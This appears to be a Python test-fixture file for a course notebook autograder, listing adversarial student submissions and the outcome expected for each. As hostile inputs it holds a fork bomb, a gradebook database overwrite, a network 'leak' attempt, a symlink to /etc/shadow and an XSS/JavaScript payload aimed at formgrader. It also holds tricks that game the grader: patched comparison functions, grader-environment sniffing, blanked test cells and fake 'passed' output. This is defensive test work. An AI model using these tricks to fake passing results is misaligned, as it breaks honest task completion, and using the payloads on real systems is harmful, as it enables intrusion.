"""The bad submissions of the class (issue 9) and of the adversarial corpus (issue 10), with expected outcomes.

Each :class:`Sub` writes one student's submission into a course (``make(course)``) and
states what ``dlcourse-grade`` must record: the score of every autograded part
(``None`` = left for manual grading), texts that must appear among the flags and the
reasons, whether the in-kernel and verified scores must disagree ("possible
tampering"), and the notebook's status. Student ids sort in the order listed, so the
honest student is graded before everyone who tries to damage the run.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from typing import Callable

from corpus_build import (add_cell_after, append_to_solution, cell_index, delete_cell, edit_cell, honest, set_solution,
                          solution_id, src, submit)

A1 = "ex01_perceptron"
A2 = "ex02_mlp"
FULL1 = {"step_matches_reference": 1.0, "predict_matches_reference": 1.0, "update_matches_reference": 2.0,
         "training_matches_reference": 2.0, "xor_answer": None}
FULL2 = {"sigmoid_matches_reference": 1.0, "sigmoid_is_stable": 1.0, "tanh_matches_reference": 1.0,
         "relu_matches_reference": 1.0, "softmax_matches_reference": 2.0, "softmax_is_stable": 1.0,
         "dense_forward_matches_reference": 1.0, "mlp_forward_matches_reference": 2.0, "nonlinearity_answer": None}
ZERO1 = {k: 0.0 for k in FULL1}  # an ungradable notebook: every grade 0, the written answer too


@dataclass
class Sub:
    student: str
    what: str
    make: Callable
    scores: dict
    flags: list[str] = field(default_factory=list)
    reasons: list[str] = field(default_factory=list)
    tamper: bool | None = False
    status: str = "graded"
    assignment: str = A1


def full(base: dict, **changes) -> dict:
    out = dict(base)
    out.update(changes)
    return out


def _nb(course, edit=None, a=A1):
    nb = honest(course, a)
    return edit(nb) if edit else nb


def simple(student, what, edit, scores, **kw):
    a = kw.get("assignment", A1)
    return Sub(student, what, lambda c: submit(c, student, a, _nb(c, edit, a)), scores, **kw)


WRONG_STEP = "def step(z):\n    return np.zeros_like(np.asarray(z, dtype=float))"
WRONG_ALL = {  # every function wrong (zeros), for the tampering cases
    "step": WRONG_STEP,
    "perceptron_predict": "def perceptron_predict(X, w, b):\n    return np.zeros(len(X))",
    "perceptron_update": "def perceptron_update(x, y, w, b, lr):\n    return np.zeros_like(w), 0.0",
    "train_perceptron": "def train_perceptron(X, y, lr=0.1, epochs=10):\n    return np.zeros(X.shape[1]), 0.0",
}


def all_wrong(nb):
    for fn, code in WRONG_ALL.items():
        nb = set_solution(nb, fn, code)
    return nb


def tamper_then_wrong(code):
    return lambda nb: add_cell_after(all_wrong(nb), "setup", code)


GRADEBOOK_ATTACK = """
import glob, os, sqlite3
found = []
for pattern in ["{root}/gradebook.db", "../../../gradebook.db", "../../../../gradebook.db", "/work/*/exercises/gradebook.db"]:
    found += glob.glob(pattern)
for path in found:
    try:
        con = sqlite3.connect(path)
        print(con.execute("select source from source_cell").fetchall()[:1])
        con.execute("update grade set auto_score = 0"); con.commit()
    except Exception as exc:
        print("gradebook:", type(exc).__name__)
for target in ["{root}/source/{a}/{a}.ipynb", "{root}/source/pwned.txt"]:
    try:
        open(target, "w").write("pwned")
    except Exception as exc:
        print("source:", type(exc).__name__)
print("seen:", found, sorted(os.listdir("/")))
"""

NETWORK_ATTACK = """
import socket
for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"leak")
        print("connected", host)
    except OSError as exc:
        print("no network:", exc)
"""

FORK_BOMB = """
import os, time
children = []
try:
    for _ in range(5000):
        pid = os.fork()
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children.append(pid)
except OSError as exc:
    print("fork refused after", len(children), "children:", type(exc).__name__)
"""


FD_STDERR = """
import os
_quiet_step = step
def step(z):
    os.write(2, b"step called\\n")
    return _quiet_step(z)
"""


def _under_time(nb):
    for fn in WRONG_ALL:
        cell = nb["cells"][cell_index(nb, solution_id(nb, fn))]
        cell["source"] = "%%time\n" + src(cell)
    return nb


def _two_copies(course):
    folder = None
    for name, mtime in (("ex01_perceptron-2.ipynb", 1_800_000_000), ("ex01_perceptron (1).ipynb", 1_700_000_000)):
        folder = submit(course, "h02_two_lms_copies", A1, honest(course, A1), name=name)
        os.utime(folder / name, (mtime, mtime))
    return folder


def class_cases(port: int, root: str) -> list[Sub]:
    """Issue 9's class (ex01_perceptron): every student gets an explicit outcome."""
    f = FULL1
    return [
        simple("c01_honest", "honest", None, f),
        simple("c02_duplicated_cell", "a graded test cell copy-pasted",
               lambda nb: _dup(nb, "step_matches_reference"), f, flags=["appears 2 times"]),
        Sub("c03_invalid_json", "invalid JSON", lambda c: submit(c, "c03_invalid_json", A1, raw='{"cells": [{"cell'),
            ZERO1, status="ungradable: invalid JSON"),
        Sub("c04_empty_file", "an empty file", lambda c: submit(c, "c04_empty_file", A1, raw=""),
            ZERO1, status="ungradable: the notebook file is empty"),
        Sub("c05_renamed", "the notebook renamed",
            lambda c: submit(c, "c05_renamed", A1, honest(c, A1), name="ex01_perceptron (1).ipynb"),
            f, flags=["notebook renamed"]),
        simple("c06_os_exit", "os._exit inside train_perceptron",
               lambda nb: set_solution(nb, "train_perceptron", "def train_perceptron(X, y, lr=0.1, epochs=10):\n"
                                       "    import os\n    os._exit(3)"),
               full(f, training_matches_reference=0.0), reasons=["exited with status 3"]),
        simple("c07_segfault", "a segfault inside perceptron_update",
               lambda nb: set_solution(nb, "perceptron_update", "def perceptron_update(x, y, w, b, lr):\n"
                                       "    import ctypes\n    return ctypes.string_at(0)"),
               full(f, update_matches_reference=0.0, training_matches_reference=0.0), reasons=["segmentation fault"]),
        simple("c08_sys_exit", "sys.exit inside perceptron_predict",
               lambda nb: set_solution(nb, "perceptron_predict", "def perceptron_predict(X, w, b):\n"
                                       "    import sys\n    sys.exit(4)"),
               full(f, predict_matches_reference=0.0), reasons=["SystemExit"]),
        simple("c09_loop_in_cell", "an infinite loop in a solution cell",
               lambda nb: append_to_solution(nb, "train_perceptron", "while True:\n    pass"),
               full(f, training_matches_reference=0.0), flags=["longer than"]),
        simple("c10_loop_in_function", "an infinite loop inside a graded function",
               lambda nb: set_solution(nb, "perceptron_predict", "def perceptron_predict(X, w, b):\n"
                                       "    while True:\n        pass"),
               full(f, predict_matches_reference=0.0), reasons=["did not return within"]),
        simple("c11_memory_bomb", "a memory bomb in a cell of its own",
               lambda nb: add_cell_after(nb, "setup", "hog = []\nwhile True:\n"
                                         "    hog.append(np.empty(50 * 1024**2, dtype=np.uint8))"),
               f),
        simple("c12_fork_bomb", "many forked processes",
               lambda nb: add_cell_after(nb, "setup", FORK_BOMB), f),
        simple("c13_huge_print", "huge printed output",
               lambda nb: add_cell_after(nb, "setup", "for i in range(200):\n    print('x' * 100_000)"),
               f, flags=["output truncated"]),
        simple("c14_huge_rich", "huge rich (HTML) output",
               lambda nb: add_cell_after(nb, "setup", "from IPython.display import HTML, display\n"
                                         "display(HTML('<b>' + 'y' * 20_000_000 + '</b>'))"),
               f, flags=["output truncated"]),
        simple("c15_gradebook_source", "reads and rewrites gradebook.db, writes into source/",
               lambda nb: add_cell_after(nb, "setup", GRADEBOOK_ATTACK.format(root=root, a=A1)), f),
        simple("c16_network", "a network connection attempt",
               lambda nb: add_cell_after(nb, "setup", NETWORK_ATTACK.format(port=port)), f),
        Sub("c17_numpy_py", "a numpy.py beside the notebook",
            lambda c: submit(c, "c17_numpy_py", A1, honest(c, A1), extra={
                "numpy.py": "raise ImportError('the submitted numpy.py was imported')\n"}), f),
    ]


def _dup(nb, grade_id):
    from corpus_build import cell_index

    nb = json.loads(json.dumps(nb))
    i = cell_index(nb, grade_id)
    nb["cells"].insert(i + 1, json.loads(json.dumps(nb["cells"][i])))
    return nb


# ---- issue 10: tampering and other adversarial submissions ---------------------------------
PATCH_ALLCLOSE = """
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *args, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
"""
PATCH_DLCOURSE = """
import dlcourse.checks as _g
_g.check = lambda grade_id, fn, **kw: _g.Score(_g.assignments.get_part(grade_id).points)
checks.check = _g.check
"""
INPUT_TRANSFORMER = """
def _swallow(lines):
    return ["pass\\n"] if any("checks.check" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_swallow)
"""
SHOWTRACEBACK = """
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
"""
FAKE_PASSED = """
print("PASSED step_matches_reference: 1 of 1 points")
print("All tests passed!")
"""
SNIFFING = """
import os
if os.environ.get("NBGRADER_EXECUTION") == "autograde":  # only when the grader runs the notebook
    checks.check = lambda gid, fn, **kw: checks.assignments.get_part(gid).points
"""
LIAR = """
class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)
    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)
    def __array_finalize__(self, obj):
        pass

def step(z):
    return np.zeros(np.shape(z)).view(Liar)
"""
MUTATES = """
def perceptron_update(x, y, w, b, lr):
    error = y - step(x @ w + b)
    w += lr * error * x
    return w, b + lr * error
"""
NAIVE_SIGMOID = """
def sigmoid(z):
    return 1 / (1 + np.exp(-z))
"""
COPIED_REFERENCE = '''
def train_perceptron(X, y, lr=0.1, epochs=10):
    """Start from zeros; for each epoch visit the samples in order and apply the update."""
    w, b = np.zeros(np.shape(X)[1]), 0.0
    for _ in range(epochs):
        for x_i, y_i in zip(X, y):
            w, b = perceptron_update(x_i, y_i, w, b, lr)
    return w, b
'''

ACTIVE_OUTPUT = """
from IPython.display import HTML, Javascript, display
display(Javascript("fetch('/formgrader/api/grade', {method: 'PUT'})"))
display(HTML("<img src=x onerror=alert(1)><script>alert(2)</script>"))
"""


def _strip(*grade_ids):
    def edit(nb):
        for g in grade_ids:
            nb = edit_cell(nb, g, lambda c: c["metadata"].pop("nbgrader"))
        return nb
    return edit


def _points(grade_id, points):
    return lambda nb: edit_cell(nb, grade_id, lambda c: c["metadata"]["nbgrader"].update(points=points))


def _edit_test(nb):
    nb = set_solution(nb, "step", WRONG_STEP)
    return edit_cell(nb, "step_matches_reference", lambda c: c.update(source='print("PASSED")'))


def _disguise_test(nb):
    nb = set_solution(nb, "step", WRONG_STEP)
    return edit_cell(nb, "step_matches_reference", lambda c: (c["metadata"]["nbgrader"].update(
        solution=True, grade=False, locked=False), c.update(source='print("PASSED")')))


def _schema(nb):
    for c in nb["cells"]:
        c["bogus_field"] = {"x": 1}
        c.pop("id", None)
        if c["cell_type"] == "code":
            c["execution_count"] = "seven"
            c["outputs"] = [{"output_type": "nonsense"}]
    nb["nbformat_minor"] = 99
    return nb


def _unknown_id(nb):
    nb = add_cell_after(nb, "setup", "print('free points')")
    i = [k for k, c in enumerate(nb["cells"]) if c["source"] == "print('free points')"][0]
    nb["cells"][i]["metadata"]["nbgrader"] = {"grade": True, "solution": False, "locked": True,
                                             "grade_id": "bonus_points", "points": 50, "schema_version": 3}
    return nb


def _symlink(course):
    folder = submit(course, "t22_symlink", A1, honest(course, A1))
    (folder / "data.csv").symlink_to("/etc/shadow")


def corpus_cases() -> list[Sub]:
    """The adversarial corpus beyond the class: tampering, delegation, repairs, numerics."""
    f, zero = FULL1, full(FULL1, step_matches_reference=0.0, predict_matches_reference=0.0,
                          update_matches_reference=0.0, training_matches_reference=0.0)
    tampered = dict(tamper=True, flags=["possible tampering"])
    return [
        simple("t01_patched_allclose", "np.allclose/np.isclose patched to return True, functions wrong",
               tamper_then_wrong(PATCH_ALLCLOSE), zero, **tampered),
        simple("t02_patched_dlcourse", "dlcourse.checks.check patched to award full points",
               tamper_then_wrong(PATCH_DLCOURSE), zero, **tampered),
        simple("t03_import_reference", "the reference imported as the solution",
               lambda nb: set_solution(nb, "step", "from dlcourse.activations import step"), zero),
        simple("t04_delegates", "the function calls the reference inside",
               lambda nb: set_solution(nb, "perceptron_update", "def perceptron_update(x, y, w, b, lr):\n"
                                       "    from dlcourse.checks.assignments.ex01_perceptron import ref_update\n"
                                       "    return ref_update(x, y, w, b, lr)"),
               full(f, update_matches_reference=0.0, training_matches_reference=0.0), reasons=["dlcourse"]),
        simple("t05_input_transformer", "an input transformer turns every test cell into `pass`",
               tamper_then_wrong(INPUT_TRANSFORMER), zero, **tampered),
        simple("t06_showtraceback", "showtraceback overridden so errors print nothing",
               tamper_then_wrong(SHOWTRACEBACK), zero),
        simple("t07_fake_passed", "prints a fake 'All tests passed'",
               lambda nb: add_cell_after(all_wrong(nb), "setup", FAKE_PASSED), zero),
        simple("t08_edited_test", "a locked test cell edited to print PASSED", _edit_test,
               full(f, step_matches_reference=0.0, predict_matches_reference=0.0, update_matches_reference=0.0,
                    training_matches_reference=0.0), flags=["was edited: restored"]),
        simple("t09_deleted_test", "a test cell deleted (function wrong)",
               lambda nb: delete_cell(set_solution(nb, "step", WRONG_STEP), "step_matches_reference"),
               full(zero), flags=["'step_matches_reference' was missing (deleted): restored"]),
        simple("t10_stripped_metadata", "nbgrader metadata stripped from a solution and its test",
               _strip("step_solution", "step_matches_reference"), f, flags=["metadata stripped: restored"]),
        simple("t11_changed_points", "the points of a test cell raised to 100",
               _points("step_matches_reference", 100), f, flags=["reset to 1"]),
        simple("t12_env_sniffing", "sniffs NBGRADER_EXECUTION and cheats only under the grader",
               tamper_then_wrong(SNIFFING), zero, **tampered),
        simple("t13_wrong_shape", "returns shape (N, 1) where (N,) was asked (it would broadcast)",
               lambda nb: set_solution(nb, "perceptron_predict", "def perceptron_predict(X, w, b):\n"
                                       "    return step(X @ w[:, None] + b)"),
               full(f, predict_matches_reference=0.0), reasons=["shape"]),
        simple("t14_lying_subclass", "an ndarray subclass whose == always says equal",
               lambda nb: set_solution(nb, "step", LIAR), zero),
        simple("t15_mutates_input", "perceptron_update changes w in place",
               lambda nb: set_solution(nb, "perceptron_update", MUTATES),
               full(f, update_matches_reference=0.0), reasons=["in place"]),
        simple("t16_dependent_wrong_step", "step uses >= (a known mistake); later parts use this step",
               lambda nb: set_solution(nb, "step", "def step(z):\n    return np.where(np.asarray(z) >= 0, 1.0, 0.0)"),
               zero, reasons=[">= instead of >"]),
        simple("t17_copied_reference", "train_perceptron copied from the reference's source",
               lambda nb: set_solution(nb, "train_perceptron", COPIED_REFERENCE), f, flags=["near copy"]),
        simple("t18_schema_mismatch", "cells with foreign fields, no ids, bad outputs, odd nbformat_minor",
               _schema, f, flags=["schema"]),
        simple("t19_unknown_grade_id", "a new graded cell worth 50 points", _unknown_id, f,
               flags=["unknown grade id 'bonus_points'"]),
        simple("t20_disguised_test", "a test cell re-tagged as a solution cell and rewritten", _disguise_test,
               zero, flags=["was edited: restored"]),
        Sub("t22_symlink", "a symlink to /etc/shadow beside the notebook", _symlink, f,
            flags=["data.csv: a symbolic link"]),
        simple("t23_active_output", "JavaScript and script-bearing HTML in its outputs (aimed at formgrader)",
               lambda nb: add_cell_after(nb, "setup", ACTIVE_OUTPUT), f),
        simple("h01_cell_magics", "honest, every solution cell under %%time (issue 18)", _under_time, f),
        Sub("h02_two_lms_copies", "honest, two renamed LMS copies and no ex01_perceptron.ipynb (issue 18)",
            _two_copies, f, flags=["graded ex01_perceptron-2.ipynb", "not graded: ex01_perceptron (1).ipynb"]),
        simple("h03_fd_stderr", "honest, step writes to file descriptor 2 (issue 18)",
               lambda nb: append_to_solution(nb, "step", FD_STDERR), f),
        Sub("u01_honest_mlp", "honest (ex02)", lambda c: submit(c, "u01_honest_mlp", A2, honest(c, A2)),
            FULL2, assignment=A2),
        Sub("u02_naive_sigmoid", "a correct but naive sigmoid that overflows (ex02)",
            lambda c: submit(c, "u02_naive_sigmoid", A2, set_solution(honest(c, A2), "sigmoid", NAIVE_SIGMOID)),
            full(FULL2, sigmoid_is_stable=0.0), reasons=["overflow"], assignment=A2),
    ]
